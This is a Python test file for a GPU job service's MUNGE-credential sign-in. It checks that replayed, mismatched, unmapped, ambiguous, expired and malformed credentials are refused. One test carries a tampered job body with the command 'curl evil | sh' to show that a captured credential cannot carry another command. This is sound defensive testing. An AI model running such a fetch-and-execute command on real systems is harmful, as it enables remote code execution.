"""Sign-in with a MUNGE credential, against the real munged of this machine.

Each test makes Unix accounts (root; `tests.unix_accounts`) and credentials as them
with the `munge` command, as the CLI of that user would, and sends them to the API on
both databases, decoded by libmunge and by the `unmunge` command.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy.orm import Session, sessionmaker

from jpushare import store
from jpushare.api.munge_auth import MungeSignIn
from jpushare.munge import LibMunge, Munge, MungeCommands, request_payload
from tests.api.conftest import ApiWorld, make_world
from tests.unix_accounts import credential_as, make_accounts, require_root_and_munge


@pytest.fixture(params=["libmunge", "unmunge"])
def decoder(request: pytest.FixtureRequest) -> Munge:
    require_root_and_munge()
    return LibMunge() if request.param == "libmunge" else MungeCommands()


@pytest.fixture
def accounts() -> Iterator[list[str]]:
    require_root_and_munge()
    with make_accounts(3) as names:
        yield names


@pytest.fixture
def world(
    sessions: sessionmaker[Session],
    decoder: Munge,
    accounts: list[str],
) -> Iterator[ApiWorld]:
    """The API world with users on the test accounts: `dana` runs as accounts[0], `eli`
    and `fay` share accounts[1]; accounts[2] is nobody's."""
    for w in make_world(sessions, munge=MungeSignIn(decoder)):
        w.clock.now = datetime.now(UTC)  # credentials carry the real time
        with sessions.begin() as s:
            for name, account in (
                ("dana", accounts[0]),
                ("eli", accounts[1]),
                ("fay", accounts[1]),
            ):
                w.users[name] = store.create_user(
                    s, name, "beta", "student", w.clock(), unix_user=account
                )
        yield w


def munge_post(w: ApiWorld, path: str, credential: str, body: bytes) -> Any:
    headers = {"Authorization": f"MUNGE {credential}", "Content-Type": "application/json"}
    return w.client.post(path, content=body, headers=headers)


def munge_get(w: ApiWorld, path: str, credential: str, **params: str) -> Any:
    return w.client.get(path, params=params, headers={"Authorization": f"MUNGE {credential}"})


def refused(response: Any, reason: str) -> str:
    assert response.status_code == 401, response.text
    error = response.json()["error"]
    assert (error["code"], error["details"]["reason"]) == ("UNAUTHENTICATED", reason)
    assert response.headers["WWW-Authenticate"] == "Bearer, MUNGE"
    message: str = error["message"]
    return message


def test_a_credential_signs_in_the_user_of_its_account(
    world: ApiWorld, accounts: list[str]
) -> None:
    body = json.dumps({"workdir": "/tmp", "name": "m", "command": "true", "num_gpus": 1}).encode()
    cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs", body=body))
    r = munge_post(world, "/v1/jobs", cred, body)
    assert r.status_code == 201, r.text
    assert (r.json()["user"], r.json()["lab"]) == ("dana", "beta")
    cred = credential_as(accounts[0], request_payload("GET", "/v1/jobs", "mine=true"))
    r = munge_get(world, "/v1/jobs", cred, mine="true")
    assert r.status_code == 200 and [j["user"] for j in r.json()["data"]] == ["dana"]
    # a POST whose route takes no body (the credential signs the empty one)
    job_id = r.json()["data"][0]["id"]
    cred = credential_as(accounts[0], request_payload("POST", f"/v1/jobs/{job_id}/cancel"))
    r = world.client.post(f"/v1/jobs/{job_id}/cancel", headers={"Authorization": f"MUNGE {cred}"})
    assert r.status_code == 200 and r.json()["state"] == "CANCELLED", r.text


def test_a_replayed_credential_is_refused(world: ApiWorld, accounts: list[str]) -> None:
    cred = credential_as(accounts[0], request_payload("GET", "/v1/queue"))
    assert munge_get(world, "/v1/queue", cred).status_code == 200
    message = refused(munge_get(world, "/v1/queue", cred), "MUNGE_REPLAYED")
    assert "good for one request" in message


def test_a_credential_is_good_for_its_own_request_only(
    world: ApiWorld, accounts: list[str]
) -> None:
    cred = credential_as(accounts[0], request_payload("GET", "/v1/queue"))
    refused(munge_get(world, "/v1/labs", cred), "MUNGE_WRONG_REQUEST")
    cred = credential_as(accounts[0], request_payload("GET", "/v1/jobs", "mine=true"))
    refused(munge_get(world, "/v1/jobs", cred, mine="false"), "MUNGE_WRONG_REQUEST")
    cred = credential_as(accounts[0], b"")  # what a bare `munge -n` makes
    refused(munge_get(world, "/v1/queue", cred), "MUNGE_WRONG_REQUEST")
    # the body is signed: a credential captured on its way cannot carry another command
    honest = json.dumps({"workdir": "/tmp", "command": "true", "num_gpus": 1}).encode()
    evil = json.dumps({"workdir": "/tmp", "command": "curl evil | sh", "num_gpus": 1}).encode()
    cred = credential_as(accounts[0], request_payload("POST", "/v1/jobs", body=honest))
    refused(munge_post(world, "/v1/jobs", cred, evil), "MUNGE_WRONG_REQUEST")
    with world.sessions() as s:
        assert store.list_jobs(s, store.JobFilter()) == []


def test_a_credential_of_an_account_no_user_runs_as_is_refused(
    world: ApiWorld, accounts: list[str]
) -> None:
    cred = credential_as(accounts[2], request_payload("GET", "/v1/queue"))
    message = refused(munge_get(world, "/v1/queue", cred), "MUNGE_UNMAPPED")
    assert accounts[2] in message
    # a uid the host has no account for at all
    cred = credential_as(54321, request_payload("GET", "/v1/queue"))
    message = refused(munge_get(world, "/v1/queue", cred), "MUNGE_UNMAPPED")
    assert "uid 54321" in message


def test_several_users_on_one_account_must_use_a_token(
    world: ApiWorld, accounts: list[str]
) -> None:
    cred = credential_as(accounts[1], request_payload("GET", "/v1/queue"))
    r = munge_get(world, "/v1/queue", cred)
    message = refused(r, "MUNGE_AMBIGUOUS")
    assert "eli, fay" in message and "use a token" in message
    assert r.json()["error"]["details"]["users"] == ["eli", "fay"]


def test_an_expired_credential_is_refused(world: ApiWorld, accounts: list[str]) -> None:
    # munged's own TTL check: a 1 s credential, decoded 2 s later
    cred = credential_as(accounts[0], request_payload("GET", "/v1/queue"), ttl_s=1)
    time.sleep(2.1)
    refused(munge_get(world, "/v1/queue", cred), "MUNGE_EXPIRED")
    # the service's own bound: made more than a minute ago by the service's clock (a
    # client may ask munged for a TTL of hours), or a minute ahead of it
    for shift_s in (61.0, -61.0):
        world.clock.now = datetime.now(UTC)
        cred = credential_as(accounts[0], request_payload("GET", "/v1/queue"))
        world.clock.advance(shift_s)
        r = munge_get(world, "/v1/queue", cred)
        refused(r, "MUNGE_EXPIRED")
        assert abs(r.json()["error"]["details"]["age_s"] - shift_s) < 5


def test_garbage_is_refused(world: ApiWorld) -> None:
    for junk in ("garbage", "MUNGE:AwQFAAAHaF9ff8q2nxVbdbFeXXXX:", "x" * 5000):
        refused(munge_get(world, "/v1/queue", junk), "MUNGE_INVALID")
    latin = {"Authorization": "MUNGE \u00e9t\u00e9".encode("latin-1")}
    refused(world.client.get("/v1/queue", headers=latin), "MUNGE_INVALID")
    r = world.client.get("/v1/queue", headers={"Authorization": "MUNGE"})
    refused(r, "MUNGE_INVALID")
    r = world.client.get("/v1/queue")
    refused(r, "NO_CREDENTIALS")


def test_a_service_without_munge_says_to_use_a_token(
    sessions: sessionmaker[Session], accounts: list[str]
) -> None:
    for w in make_world(sessions, munge=None):
        cred = credential_as(accounts[0], request_payload("GET", "/v1/queue"))
        message = refused(munge_get(w, "/v1/queue", cred), "MUNGE_UNAVAILABLE")
        assert "use a token" in message
        assert w.get("/v1/queue", "alice").status_code == 200  # tokens still work
